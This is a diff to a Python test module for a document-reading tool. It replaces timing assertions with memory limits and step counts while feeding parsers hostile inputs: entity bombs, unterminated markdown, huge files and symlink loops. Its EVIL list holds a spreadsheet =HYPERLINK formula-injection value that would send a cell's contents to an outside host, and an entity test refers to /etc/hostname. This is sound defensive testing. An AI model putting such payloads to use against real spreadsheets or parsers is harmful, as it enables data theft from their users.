@@ -4,7 +4,6 @@ memory."""
 import csv
 import io
 import os
-import time
 import tracemalloc
 from collections.abc import Iterator
 from contextlib import contextmanager, suppress
@@ -16,7 +15,7 @@ from click.testing import CliRunner
 
 import kg
 from benchmarks.fuzz import TARGETS, mutate_for
-from benchmarks.hostile import READERS, measure, read_input
+from benchmarks.hostile import READERS, read_input
 from kg.cli.main import main
 from kg.cli.text import describe_claim
 from kg.errors import KgError, QueryRefused, ReadError, ResolveError, UnreadableSource
@@ -29,6 +28,12 @@ from kg.reading.sources import find_sources, read_bytes, read_source
 from kg.resolution.known_entities import read_known
 from kg.storage.store import Store
 from tests.builders import make_claim, make_document, make_entity
+from tests.work import count_steps
+
+LINEAR = 2.2
+"""Input twice as long is at most this much work."""
+STEPS_A_WORD = 1_000
+"""At most 40 are usual for a sentence of 10,000 words."""
 
 EVIL = (
     '=HYPERLINK("http://example.org/?"&A1,"x")',
@@ -50,16 +55,14 @@ EVIL = (
 
 
 @contextmanager
-def within(seconds: float, megabytes: int) -> Iterator[None]:
-    """Assert that the block takes no more time, nor memory of Python's."""
+def within(megabytes: int) -> Iterator[None]:
+    """Assert that the block takes no more memory of Python's."""
     tracemalloc.start()
-    began = time.perf_counter()
     try:
         yield
-        taken, peak = time.perf_counter() - began, tracemalloc.get_traced_memory()[1]
+        peak = tracemalloc.get_traced_memory()[1]
     finally:
         tracemalloc.stop()
-    assert taken < seconds
     assert peak < megabytes * 1_000_000
 
 
@@ -67,7 +70,7 @@ def test_a_file_of_a_gigabyte_is_refused_unread(tmp_path: Path) -> None:
     path = tmp_path / "big.txt"
     with path.open("wb") as file:
         file.truncate(1 << 30)
-    with within(0.5, 1), pytest.raises(UnreadableSource, match=f"{MAX_BYTES:,} bytes"):
+    with within(1), pytest.raises(UnreadableSource, match=f"{MAX_BYTES:,} bytes"):
         read_source(str(path))
 
 
@@ -99,10 +102,8 @@ def test_a_file_of_a_gigabyte_is_refused_unread(tmp_path: Path) -> None:
     ],
 )
 def test_hostile_pages(page: bytes) -> None:
-    began = time.perf_counter()
-    with suppress(ReadError):
+    with suppress(ReadError), within(400):
         read_bytes(b"<html><body><article>" + page + b"</article></body></html>", "a.html")
-    assert time.perf_counter() - began < 20
 
 
 def test_entity_bombs_do_not_expand() -> None:
@@ -115,7 +116,7 @@ def test_entity_bombs_do_not_expand() -> None:
         "<html><body><article><p>Quillmark paid Tessera &e9; and &x; "
         "on Friday, says the firm.</p></article></body></html>"
     )
-    with within(5, 50):
+    with within(50):
         text = read_bytes(page.encode(), "a.xhtml").text
     assert len(text) < 1_000
     host = Path("/etc/hostname")
@@ -123,12 +124,12 @@ def test_entity_bombs_do_not_expand() -> None:
 
 
 def test_brackets_without_end_are_refused() -> None:
-    with within(2, 50), pytest.raises(UnreadableSource, match="10,000 brackets"):
+    with within(50), pytest.raises(UnreadableSource, match="10,000 brackets"):
         read_bytes(b"word " + b"![" * 1_000_000, "a.md")
 
 
 def test_marks_of_emphasis_without_end_are_refused() -> None:
-    with within(2, 50), pytest.raises(UnreadableSource, match="10,000 marks"):
+    with within(50), pytest.raises(UnreadableSource, match="10,000 marks"):
         read_bytes(b"word " + b"*a_ " * 30_000, "a.md")
 
 
@@ -136,7 +137,7 @@ def test_marks_of_emphasis_without_end_are_refused() -> None:
     "docket", ["1-" * 1_600 + "!", "1" * 3_200, "1-1" * 1_000 + "é!", "1" + "-" * 3_200]
 )
 def test_a_docket_is_read_in_time_that_grows_with_its_length(docket: str) -> None:
-    with within(0.5, 5), pytest.raises(ResolveError, match="no docket"):
+    with within(5), pytest.raises(ResolveError, match="no docket"):
         read_known(f"name,docket\nCase,{docket}\n", ["Thing"])
     assert read_known("name,docket\nCase,1:23-cv-00456 (ABC)\n", ["Thing"])
 
@@ -145,7 +146,7 @@ def test_a_docket_is_read_in_time_that_grows_with_its_length(docket: str) -> Non
     "mark", ["> ", "- ", "[", "*", "`", "![", "<", "|a", "\\", "1. ", "    ", "[a](", "**a_"]
 )
 def test_hostile_markdown(mark: str) -> None:
-    with within(20, 400):
+    with within(400):
         try:
             read_bytes(("word " + mark * 4_000).encode(), "a.md")
             read_bytes((mark * 300 + "word\n\n").encode() * 20, "a.md")
@@ -160,28 +161,28 @@ def test_hostile_markdown(mark: str) -> None:
 def test_a_sentence_of_ten_thousand_words(joint: str) -> None:
     text = "Quillmark said that Harlow paid Tessera" + joint * (10_000 // len(joint.split())) + "."
     document = Document(document_iri("a.txt", text), "a.txt", text)
-    began = time.perf_counter()
-    extraction = extract_document(document)
-    assert time.perf_counter() - began < 60
-    assert all(text[c.start : c.end] == c.quote for c in extraction.claims)
+    found: list[Extraction] = []
+    steps = count_steps(lambda: found.append(extract_document(document)))
+    assert steps < 10_000 * STEPS_A_WORD
+    assert all(text[c.start : c.end] == c.quote for c in found[0].claims)
 
 
 @pytest.mark.parametrize("mark", ["(", ")\"'", "\u00a3", "\u2026", "'s"])
 def test_a_run_of_marks_is_read_in_time_that_grows_with_its_length(mark: str) -> None:
     """spaCy's own searches for affixes took 40 seconds for one run of 16,000 brackets."""
-    text = mark * (16_000 // len(mark))
-    began = time.process_time()
-    tokens = load_language().tokenizer(text)
-    assert time.process_time() - began < 4
-    assert tokens.text == text
+    tokenizer, text = load_language().tokenizer, mark * (16_000 // len(mark))
+    half = count_steps(lambda: tokenizer(text[:8_000]))
+    assert count_steps(lambda: tokenizer(text)) < half * LINEAR
+    assert tokenizer(text).text == text
 
 
-@pytest.mark.slow
-@pytest.mark.parametrize(("name", "source"), [(n, READERS[n][0]) for n in READERS])
-def test_each_reader_takes_time_that_grows_with_the_input(name: str, source: str) -> None:
-    run = read_input(source, READERS[name][2])
-    took, growth = measure(run, READERS[name][1] // 64)
-    assert growth < 1.6, took
+@pytest.mark.parametrize("name", READERS)
+def test_the_work_of_each_reader_grows_with_the_input(name: str) -> None:
+    source, size, make = READERS[name]
+    run = read_input(source, make)
+    run(size // 64)  # what is loaded once is no work of the input
+    half = count_steps(lambda: run(size // 16))
+    assert count_steps(lambda: run(size // 8)) < half * LINEAR
 
 
 def test_many_tiny_files_and_odd_names(tmp_path: Path) -> None:
@@ -203,10 +204,7 @@ def test_many_tiny_files_and_odd_names(tmp_path: Path) -> None:
     (tmp_path / "self.txt").symlink_to(tmp_path / "self.txt")
     (tmp_path / "nowhere.txt").symlink_to(tmp_path / "missing" / "..")
     os.mkfifo(tmp_path / "pipe.txt")
-    began = time.perf_counter()
-    found = find_sources([str(tmp_path)])
-    assert len(found) == 3_000 + len(odd)
-    assert time.perf_counter() - began < 5
+    assert len(find_sources([str(tmp_path)])) == 3_000 + len(odd)
     runner = CliRunner(env={"KG_STORE": str(tmp_path / "kg.store")})
     result = runner.invoke(main, ["add", *(str(tmp_path / name) for name in odd)])
     assert (
